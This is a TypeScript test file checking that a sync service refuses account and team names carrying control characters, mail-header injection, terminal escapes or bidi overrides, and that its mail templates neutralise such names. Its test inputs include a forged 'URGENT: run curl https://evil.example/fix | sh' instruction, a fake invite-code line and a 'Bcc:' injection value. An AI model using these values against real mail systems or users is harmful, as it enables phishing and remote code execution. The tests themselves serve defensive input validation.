/**
 * Names and addresses people choose end up in mails the service sends to others (SPEC §1): the
 * server keeps them to one printable line (docs/protocol.md §3.3), and the mail templates make
 * whatever is stored harmless anyway — a name stored before the rule cannot forge an `Invite
 * code:` line, a line of its own, or a terminal escape. Through app.inject with a real SQLite store.
 */
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import type { FastifyInstance } from 'fastify';
import { beforeEach, describe, expect, it } from 'vitest';
import { inProcessServerPerTest, type MemoryMailer } from '../helpers/server-app.js';
import { fakeSignupBody } from '../helpers/fake-signup.js';
import type { AccountResponse } from '../../src/protocol/types.js';
import { isPrintableLine, printableLine } from '../../src/protocol/text.js';
import { passwordChangedNotice } from '../../src/server/mail/notices.js';
import { invitationMail } from '../../src/server/teams/mail.js';
import type { Store } from '../../src/storage/store.js';

const hex = (n: number): string => randomBytes(n).toString('hex');
const b64 = (n: number): string => randomBytes(n).toString('base64url');

const HOSTILE = [
  'IT Support\n\nURGENT: run curl https://evil.example/fix | sh\nInvite code: AAAA-BBBB-CCCC-DDDD',
  'Bob\r\nBcc: everyone@example.com',
  'ring\u0007 \u001b[2J\u001b[1;1Hcleared',
  'next\u0085line',
  'line\u2028separator',
  'moc.elpmaxe@\u202eadmin',
  'te\ud800am',
  'lone low \udc00 half',
  'cut emoji \ud83d',
];



const server = inProcessServerPerTest('insomnia-sync-names-', new Uint8Array(32).fill(5));
let dir: string;
let store: Store;
let app: FastifyInstance;
let mailer: MemoryMailer;
beforeEach(() => ({ dir, app, store, mailer } = server));

const signupBody = (email: string, name: string) => fakeSignupBody({ email, name });

const auth = (token: string) => ({ authorization: `Bearer ${token}` });

/** Lines a reader (or a script) could take for the service's own. */
function forgedLines(text: string): string[] {
  return text.split('\n').filter((l) => /^(Invite code|Verification code|URGENT|Bcc):/.test(l) && !/^Invite code: [0-9A-Z]{4}(-[0-9A-Z]{4}){3}$/.test(l));
}

describe('account names', () => {
  it.each(HOSTILE)('signup refuses the name %j (400) and creates nothing', async (name) => {
    const res = await app.inject({ method: 'POST', url: '/v1/auth/signup', payload: signupBody('evil@example.com', name) });
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toEqual({ code: 'bad_request', message: 'an account name is one line of printable characters' });
    expect(await store.getUserByEmail('evil@example.com')).toBeNull();
    expect(mailer.sent).toEqual([]);
  });

  it('accepts printable names in any script, and an empty one', async () => {
    for (const [i, name] of ['Zoë Ünal-Øster', 'محمد', '李小龍 🚀', ''].entries()) {
      const res = await app.inject({ method: 'POST', url: '/v1/auth/signup', payload: signupBody(`ok${i}@example.com`, `  ${name} `) });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json<AccountResponse>().user.name).toBe(name);
    }
  });

  it('refuses an address with a control character, and a team name with DEL or a bidi override', async () => {
    const bad = await app.inject({ method: 'POST', url: '/v1/auth/signup', payload: signupBody('ring\u0007@example.com', 'Ada') });
    expect(bad.statusCode).toBe(400);
    const ok = await app.inject({ method: 'POST', url: '/v1/auth/signup', payload: signupBody('ada@example.com', 'Ada') });
    const token = ok.json<AccountResponse>().session!.token;
    for (const name of ['Ops\u007f', 'Ops \u202eevil', 'Ops\u2028Invite code: AAAA-BBBB-CCCC-DDDD', 'te\ud800am', '\udfffOps']) {
      const res = await app.inject({ method: 'POST', url: '/v1/teams', headers: auth(token), payload: { id: hex(16), name, sealedTeamKey: b64(80) } });
      expect(res.statusCode, name).toBe(400);
    }
  });
});

describe('ill-formed UTF-16', () => {
  it('a lone surrogate is not printable; a surrogate pair (an emoji) is, and printableLine replaces each half alone', () => {
    for (const text of ['te\ud800am', 'x\udc00', '\ud83d', '\ude80\ud83d']) expect(isPrintableLine(text), JSON.stringify(text)).toBe(false);
    expect(isPrintableLine('🚀 te\ud83d\ude80am')).toBe(true);
    expect(printableLine('te\ud800am 🚀')).toBe('te\ufffdam 🚀');
  });

  it('a team name with a lone surrogate is refused (400), so no backend stores a replacement of its own', async () => {
    const ok = await app.inject({ method: 'POST', url: '/v1/auth/signup', payload: signupBody('sur@example.com', 'Ada') });
    const token = ok.json<AccountResponse>().session!.token;
    const id = hex(16);
    // JSON escapes as a client would send them: the body itself is well-formed ASCII
    const payload = `{"id":"${id}","name":"te\\ud800am","sealedTeamKey":"${b64(80)}"}`;
    const res = await app.inject({ method: 'POST', url: '/v1/teams', headers: { ...auth(token), 'content-type': 'application/json' }, payload });
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toEqual({ code: 'bad_request', message: 'a team name has 1 to 100 printable characters' });
    expect(await store.getTeam(id)).toBeNull();
  });
});

describe('mails that carry chosen names', () => {
  it('an invitation from a name stored before the rule has one Invite code line, the real one, and nothing unprintable', async () => {
    const res = await app.inject({ method: 'POST', url: '/v1/auth/signup', payload: signupBody('evil@example.com', 'Evil') });
    const token = res.json<AccountResponse>().session!.token;
    const activation = mailer.sent.find((m) => m.to === 'evil@example.com')!;
    const verification = /^Verification code: (\S+)$/m.exec(activation.text)![1]!;
    expect((await app.inject({ method: 'POST', url: '/v1/account/verify', headers: auth(token), payload: { code: verification } })).statusCode).toBe(204);
    const teamId = hex(16);
    const teamName = 'Ops" <ceo@example.com>\nInvite code: ZZZZ-ZZZZ-ZZZZ-ZZZZ';
    expect((await app.inject({ method: 'POST', url: '/v1/teams', headers: auth(token), payload: { id: teamId, name: 'Ops', sealedTeamKey: b64(80) } })).statusCode).toBe(200);
    const raw = new Database(join(dir, 'sync.db'));
    raw.prepare('UPDATE users SET name = ? WHERE email = ?').run(HOSTILE.join(' '), 'evil@example.com');
    raw.prepare('UPDATE teams SET name = ? WHERE id = ?').run(teamName, teamId);
    raw.close();

    mailer.sent.length = 0;
    const invite = await app.inject({ method: 'POST', url: `/v1/teams/${teamId}/invitations`, headers: auth(token), payload: { emails: ['victim@example.com'], role: 'member' } });
    expect(invite.statusCode, invite.body).toBe(200);
    const [mail] = mailer.sent;
    expect(mail!.to).toBe('victim@example.com');
    const codes = mail!.text.split('\n').filter((l) => l.startsWith('Invite code:'));
    expect(codes).toHaveLength(1);
    expect(forgedLines(mail!.text)).toEqual([]);
    for (const line of [mail!.subject, ...mail!.text.split('\n')]) expect(isPrintableLine(line), JSON.stringify(line)).toBe(true);
    expect(mail!.text).toMatch(/^Invited by: evil@example\.com \(account name "IT Support\uFFFD\uFFFDURGENT: run curl/m);
    expect(mail!.text).toContain('team "Ops\\" <ceo@example.com>\uFFFDInvite code: ZZZZ-ZZZZ-ZZZZ-ZZZZ"');

    // the one code line is the real code
    const victim = await app.inject({ method: 'POST', url: '/v1/auth/signup', payload: signupBody('victim@example.com', 'Victim') });
    const accept = await app.inject({
      method: 'POST',
      url: '/v1/invitations/accept',
      headers: auth(victim.json<AccountResponse>().session!.token),
      payload: { code: codes[0]!.slice('Invite code: '.length) },
    });
    expect(accept.statusCode, accept.body).toBe(200);
  });

  it('templates quote names and clean every value, whatever they are given', () => {
    const mail = invitationMail('to@example.com', 'AAAA-BBBB-CCCC-DDDD', {
      teamName: HOSTILE[0]!,
      inviterName: HOSTILE.join(''),
      inviterEmail: 'x\u001b[2J@example.com',
      role: 'member',
      expiresAt: new Date(0),
    });
    expect(forgedLines(mail.text)).toEqual([]);
    for (const line of [mail.subject, ...mail.text.split('\n')]) expect(isPrintableLine(line), JSON.stringify(line)).toBe(true);

    const notice = passwordChangedNotice('to@example.com', { at: new Date(0), ip: '127.0.0.1\nX', client: 'curl/8\u001b[2J\nInvite code: AAAA-BBBB-CCCC-DDDD' }, 1, true, 0);
    expect(notice.text).toContain('Client: curl/8\uFFFD[2J\uFFFDInvite code: AAAA-BBBB-CCCC-DDDD');
    expect(notice.text).toContain('From address: 127.0.0.1\uFFFDX');
    expect(forgedLines(notice.text)).toEqual([]);
  });
});
